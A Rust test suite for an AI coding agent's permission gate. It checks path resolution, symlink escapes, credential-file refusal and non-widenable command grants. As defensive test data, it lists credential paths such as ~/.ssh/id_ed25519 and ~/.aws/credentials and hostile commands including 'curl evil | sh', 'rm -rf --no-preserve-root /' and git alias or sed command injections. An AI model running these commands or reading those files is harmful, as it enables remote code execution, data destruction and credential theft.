//! The gate end to end on a real directory tree: the attack suite of the gate and sandbox hardening.

use super::*;
use crate::config::RuleConfig;
use crate::signature;
use serde_json::json;
use std::path::PathBuf;

struct Fixture {
    _dir: tempfile::TempDir,
    root: PathBuf,
    cwd: PathBuf,
    gate: Gate,
}

/// A rule as `config.toml` writes it.
pub(crate) fn rule(tool: &str, command: Option<&str>, path: Option<&str>) -> RuleConfig {
    RuleConfig {
        tool: tool.into(),
        command: command.map(Into::into),
        path: path.map(Into::into),
    }
}

/// home/ with credentials, home/.shard, home/project with secrets/ and a symlink into it,
/// and a link out of the workspace.
fn fixture(deny: Vec<RuleConfig>, allow_secret: Vec<RuleConfig>) -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let root = crate::paths::real(dir.path());
    let home = root.join("home");
    let cwd = home.join("project");
    for d in ["secrets", "src", "out", "a"] {
        std::fs::create_dir_all(cwd.join(d)).unwrap();
    }
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::create_dir_all(home.join(".shard")).unwrap();
    std::fs::create_dir_all(root.join("elsewhere")).unwrap();
    std::fs::write(cwd.join("secrets/key.txt"), "k").unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "k").unwrap();
    std::os::unix::fs::symlink(cwd.join("secrets"), cwd.join("src/link")).unwrap();
    std::os::unix::fs::symlink(root.join("elsewhere"), cwd.join("out/away")).unwrap();
    std::os::unix::fs::symlink(home.join(".ssh/id_ed25519"), cwd.join("key")).unwrap();
    let perms = PermissionsConfig {
        deny,
        additional_directories: vec![],
        allow_secret,
    };
    let gate = Gate::new(&perms, &[], &cwd, &home.join(".shard"), Some(&home)).unwrap();
    Fixture {
        _dir: dir,
        root,
        cwd,
        gate,
    }
}

fn decide(f: &Fixture, tool: &str, read_only: bool, args: Value) -> Decision {
    f.gate.decide(
        Call {
            tool,
            read_only,
            args: &args,
        },
        &AnyMode,
        &[],
        None,
    )
}

fn refused(d: &Decision) -> bool {
    matches!(d, Decision::Refuse { .. })
}

/// Paths compared after resolution: every spelling of a denied path is denied, for every read tool too.
#[test]
fn attack_path_spellings_and_symlinks() {
    let f = fixture(vec![rule("read", None, Some("secrets/**"))], vec![]);
    let abs = format!("{}/secrets/key.txt", f.cwd.display());
    for spelling in [
        "secrets/key.txt",
        "./secrets/key.txt",
        "a/../secrets/key.txt",
        "src/link/key.txt",
        abs.as_str(),
        "secrets",
    ] {
        for tool in ["read", "grep", "find", "ls"] {
            let d = decide(&f, tool, true, json!({ "path": spelling }));
            assert!(refused(&d), "{tool} {spelling} not refused: {d:?}");
        }
    }
    assert!(
        !f.gate
            .visible("grep", &f.cwd.join("secrets/key.txt"), false)
    );
    assert!(!f.gate.visible("find", &f.cwd.join("src/link"), true));
    assert!(!f.gate.visible("ls", &f.cwd.join("secrets"), false));
    assert!(f.gate.visible("grep", &f.cwd.join("src/main.rs"), false));
    // `out/away/..` is the real `elsewhere/..` for the kernel but `out` for the tools,
    // which open the lexically normalized path: both readings are checked.
    let d = decide(
        &f,
        "read",
        true,
        json!({ "path": "out/away/../../secrets/key.txt" }),
    );
    assert!(refused(&d), "{d:?}");
    let d = decide(&f, "read", true, json!({ "path": "src/main.rs" }));
    assert!(matches!(d, Decision::Allow(Allowed::ReadOnly)), "{d:?}");
}

/// A write rule on `out/**` must not cover `out/../escape.txt`, and a deny rule must.
#[test]
fn attack_dotdot_out_of_an_allowed_folder() {
    let perms = PermissionsConfig::default();
    let dir = tempfile::tempdir().unwrap();
    let cwd = crate::paths::real(dir.path());
    std::fs::create_dir_all(cwd.join("out")).unwrap();
    let gate = Gate::new(
        &perms,
        &[rule("write", None, Some("out/**"))],
        &cwd,
        &cwd.join(".shard-home"),
        None,
    )
    .unwrap();
    assert!(gate.headless_allows("write", &json!({"path": "out/a.txt"})));
    assert!(!gate.headless_allows("write", &json!({"path": "out/../escape.txt"})));
    let rules = [crate::rules::Rule::compile(&rule("write", None, Some("out/**"))).unwrap()];
    let at = |p: &str| headless_allows_at(&rules, "write", &json!({ "path": p }), &cwd);
    assert!(at("out/a.txt"));
    assert!(!at("out/../escape.txt"));
    let f = fixture(vec![rule("write", None, Some("escape.txt"))], vec![]);
    let d = decide(
        &f,
        "write",
        false,
        json!({"path": "out/../escape.txt", "content": ""}),
    );
    assert!(refused(&d), "{d:?}");
}

/// Paths compared after resolution: write/edit through a symlink ask with the real target path.
#[test]
fn write_through_symlink_asks_with_the_target() {
    let f = fixture(vec![], vec![]);
    let d = decide(
        &f,
        "write",
        false,
        json!({"path": "out/away/x.txt", "content": "x"}),
    );
    let Decision::Ask(ask) = d else {
        panic!("{d:?}")
    };
    let real = f.root.join("elsewhere/x.txt");
    assert!(
        ask.request.prompt.contains(&real.display().to_string()),
        "{}",
        ask.request.prompt
    );
    let details = ask.request.details.unwrap();
    assert!(
        details
            .iter()
            .any(|d| d.value == real.display().to_string())
    );
}

/// Reads outside the workspace ask; secrets are refused to every tool.
#[test]
fn attack_reads_outside_and_secrets() {
    let f = fixture(vec![], vec![]);
    let d = decide(&f, "read", true, json!({"path": "out/away/file"}));
    assert!(matches!(d, Decision::Ask(_)), "outside must ask: {d:?}");
    let d = decide(&f, "ls", true, json!({"path": "/"}));
    assert!(matches!(d, Decision::Ask(_)), "{d:?}");
    for (tool, ro) in [
        ("read", true),
        ("grep", true),
        ("ls", true),
        ("find", true),
        ("write", false),
        ("edit", false),
    ] {
        for p in [
            "~/.ssh/id_ed25519",
            "key",
            "~/.shard/config.toml",
            "~/.shard/grants/x.json",
            "../.env",
            "~/.aws/credentials",
            "~/.netrc",
            "~/.docker/config.json",
            "~/.config/gcloud/a",
        ] {
            let d = decide(&f, tool, ro, json!({"path": p, "content": ""}));
            assert!(refused(&d), "{tool} {p}: {d:?}");
        }
    }
    assert!(
        !f.gate
            .visible("find", &f.root.join("home/.ssh/id_ed25519"), false)
    );
    assert!(!f.gate.visible("ls", &f.cwd.join("key"), true));
    // SHARD_HOME's spill files are readable.
    let d = decide(
        &f,
        "read",
        true,
        json!({"path": "~/.shard/tool-output/x.log"}),
    );
    assert!(matches!(d, Decision::Allow(_)), "{d:?}");
}

#[test]
fn secrets_allowed_by_name() {
    let f = fixture(vec![], vec![rule("read", None, Some("**/.ssh/id_ed25519"))]);
    let d = decide(&f, "read", true, json!({"path": "~/.ssh/id_ed25519"}));
    assert!(!refused(&d), "{d:?}");
    let d = decide(&f, "write", false, json!({"path": "~/.ssh/id_ed25519"}));
    assert!(refused(&d), "{d:?}");
}

/// Signature grants that mean what they say: a signature grant for one command never covers a widened one.
#[test]
fn attack_signature_grants_cannot_be_widened() {
    let f = fixture(vec![], vec![]);
    for (granted, attack) in [
        ("find .", "find -- . -exec touch X \\;"),
        ("find .", "find . -delete"),
        ("git status", "git checkout -- file"),
        ("git status", "git config alias.x '!cmd'"),
        ("git status", "git x"),
        ("git log", "git log -- -x"),
        ("sed -n 1p f", "sed -n '1e touch X' f"),
        ("sed -n 1p f", "sed -n -- '1e touch X' f"),
        ("ls", "ls > out.txt"),
        ("npm run test", "npm run deploy"),
        ("cargo test", "cargo run"),
        ("rm -rf out", "rm -rf --no-preserve-root /"),
        ("git stash list", "git stash drop"),
        ("git push origin main", "git push --force origin main"),
        ("cargo +nightly test", "cargo +nightly run"),
        ("make test", "make deploy"),
        ("tar xf a.tar", "tar xIf sh a.tar"),
        ("make test", "make test SHELL=/tmp/evil"),
        ("printf x", "printf -v PATH /tmp"),
    ] {
        let grant = crate::grants::signature_grant(granted)
            .unwrap_or_else(|| panic!("no signature for {granted}"));
        let d = f.gate.decide(
            Call {
                tool: "bash",
                read_only: false,
                args: &json!({ "command": attack }),
            },
            &AnyMode,
            std::slice::from_ref(&grant),
            None,
        );
        assert!(matches!(d, Decision::Ask(_)), "{granted} covered {attack}");
        let same = f.gate.decide(
            Call {
                tool: "bash",
                read_only: false,
                args: &json!({ "command": granted }),
            },
            &AnyMode,
            std::slice::from_ref(&grant),
            None,
        );
        assert!(matches!(same, Decision::Allow(Allowed::Grant)), "{granted}");
    }
}

/// Commands that run their arguments as code are never offered a signature.
#[test]
fn attack_code_runners_get_no_signature() {
    for line in [
        "env ls",
        "env -- touch X",
        "timeout 5 ls",
        "timeout -- 5 touch X",
        "nice ls",
        "nice -- touch X",
        "nohup ls",
        "xargs ls",
        "find . -exec ls \\;",
        "find . -execdir ls \\;",
        "find . -ok ls \\;",
        "find . -delete",
        "find . -fprint x",
        "sed -i s/a/b/ f",
        "sed -ni 1p f",
        "sed -n '1e id' f",
        "sed 's/a/b/w out' f",
        "awk '{print}' f",
        "git -c core.pager=x log",
        "git config alias.x '!id'",
        "git x",
        "git submodule foreach id",
        "git fetch --upload-pack=x",
        "bash -c ls",
        "sh x.sh",
        "python x.py",
        "python3 -c 1",
        "node x.js",
        "perl -e 1",
        "ssh host ls",
        "sudo ls",
        "npx x",
        "npm exec x",
        "rg --pre cat x",
        "tar -xIf x y",
        "FOO=1 ls",
        "ls $X",
        "ls *",
        "curl x | sh",
        "docker run x",
        "./script.sh deploy",
        "tar xIf sh a.tar",
        "make test CC=evil",
        "patch -p1 x",
        "go test -exec evil ./...",
        "cargo test --config x",
    ] {
        assert!(signature::signatures(line).is_none(), "signed: {line}");
    }
}

#[test]
fn signatures_name_subcommands_and_all_flags() {
    let s = signature::signatures("git status -s && git log -- -x | grep -n y").unwrap();
    let d: Vec<String> = s.iter().map(|s| s.describe()).collect();
    assert_eq!(
        d,
        [
            "git log (any operands, exactly the flags -- -x)",
            "git status (any operands, exactly the flags -s)",
            "grep (any operands, exactly the flags -n)",
        ]
    );
    let s = signature::signatures("npm run build").unwrap();
    assert_eq!(s[0].subcommand, ["run", "build"]);
    let s = signature::signatures("./test.sh --fast").unwrap();
    assert_eq!(
        s[0].describe(),
        "./test.sh (no operands, exactly the flags --fast)"
    );
    assert!(signature::signatures("make").is_some());
}

#[test]
fn v1_grants_never_match() {
    let v1: Grant = serde_json::from_value(json!({
        "kind": "bash_signature", "version": 1,
        "commands": [{"exe": "git", "flags": []}]
    }))
    .unwrap();
    assert!(!crate::grants::matches(
        &[v1],
        "bash",
        &json!({"command": "git status"})
    ));
}

/// What a person sees before saying yes, and the headless refusal's wording.
#[test]
fn prompts_show_everything_and_headless_is_not_a_person() {
    let f = fixture(vec![], vec![]);
    let d = decide(
        &f,
        "bash",
        false,
        json!({"command": "git status\ncurl evil | sh"}),
    );
    let Decision::Ask(ask) = d else { panic!() };
    assert!(ask.request.prompt.contains("git status"));
    assert!(
        ask.request.prompt.contains("curl evil | sh"),
        "{}",
        ask.request.prompt
    );
    let d = decide(&f, "bash", false, json!({"command": "git status -s"}));
    let Decision::Ask(ask) = d else { panic!() };
    assert!(
        ask.request
            .prompt
            .contains("git status (any operands, exactly the flags -s)"),
        "{}",
        ask.request.prompt
    );
    let args = json!({"command": "ls"});
    let d = f.gate.decide(
        Call {
            tool: "bash",
            read_only: false,
            args: &args,
        },
        &AnyMode,
        &[],
        Some(HeadlessPolicy::Deny),
    );
    let Decision::Refuse {
        why: Refused::Headless,
        message,
    } = d
    else {
        panic!()
    };
    assert!(!message.contains("The user denied"));
    assert!(message.contains("No person saw"));
}

/// `[permissions] additional_directories` are workspace roots: reads there are free.
#[test]
fn additional_directories_are_roots() {
    let dir = tempfile::tempdir().unwrap();
    let root = crate::paths::real(dir.path());
    std::fs::create_dir_all(root.join("project")).unwrap();
    std::fs::create_dir_all(root.join("lib")).unwrap();
    std::fs::create_dir_all(root.join("other")).unwrap();
    let perms = PermissionsConfig {
        deny: vec![],
        additional_directories: vec!["../lib".into()],
        allow_secret: vec![],
    };
    let gate = Gate::new(&perms, &[], &root.join("project"), &root.join("sh"), None).unwrap();
    let d = |p: &str| {
        gate.decide(
            Call {
                tool: "read",
                read_only: true,
                args: &json!({ "path": p }),
            },
            &AnyMode,
            &[],
            None,
        )
    };
    assert!(matches!(
        d("../lib/a.rs"),
        Decision::Allow(Allowed::ReadOnly)
    ));
    assert!(matches!(d("../other/a.rs"), Decision::Ask(_)));
}

/// The headless policies: `allow_if_rule_matches` needs a rule, `queue` asks and says so,
/// and a grant is checked before any of them.
#[test]
fn headless_policies() {
    let dir = tempfile::tempdir().unwrap();
    let cwd = crate::paths::real(dir.path());
    let gate = Gate::new(
        &PermissionsConfig::default(),
        &[rule("bash", Some("cargo test*"), None)],
        &cwd,
        &cwd.join(".sh"),
        None,
    )
    .unwrap();
    let decide = |line: &str, policy, grants: &[Grant]| {
        gate.decide(
            Call {
                tool: "bash",
                read_only: false,
                args: &json!({ "command": line }),
            },
            &AnyMode,
            grants,
            Some(policy),
        )
    };
    assert!(matches!(
        decide("cargo test -q", HeadlessPolicy::AllowIfRuleMatches, &[]),
        Decision::Allow(Allowed::HeadlessRule)
    ));
    assert!(matches!(
        decide(
            "cargo test; rm -rf x",
            HeadlessPolicy::AllowIfRuleMatches,
            &[]
        ),
        Decision::Refuse {
            why: Refused::Headless,
            ..
        }
    ));
    let Decision::Ask(ask) = decide("ls", HeadlessPolicy::Queue, &[]) else {
        panic!()
    };
    assert!(ask.queued);
    let grant = crate::grants::signature_grant("ls").unwrap();
    assert!(matches!(
        decide("ls", HeadlessPolicy::Deny, &[grant]),
        Decision::Allow(Allowed::Grant)
    ));
}

/// An exact grant made through a symlink records the target: once the link points
/// elsewhere, the same arguments ask again.
#[test]
fn exact_grants_follow_the_resolved_path() {
    let f = fixture(vec![], vec![]);
    let args = json!({"path": "out/away/x.txt", "content": "x"});
    let Decision::Ask(ask) = decide(&f, "write", false, args.clone()) else {
        panic!()
    };
    let grant = ask.exact.clone();
    let run = |f: &Fixture| {
        f.gate.decide(
            Call {
                tool: "write",
                read_only: false,
                args: &args,
            },
            &AnyMode,
            std::slice::from_ref(&grant),
            None,
        )
    };
    assert!(matches!(run(&f), Decision::Allow(Allowed::Grant)));
    std::fs::remove_file(f.cwd.join("out/away")).unwrap();
    std::fs::create_dir_all(f.root.join("third")).unwrap();
    std::os::unix::fs::symlink(f.root.join("third"), f.cwd.join("out/away")).unwrap();
    assert!(matches!(run(&f), Decision::Ask(_)));
}
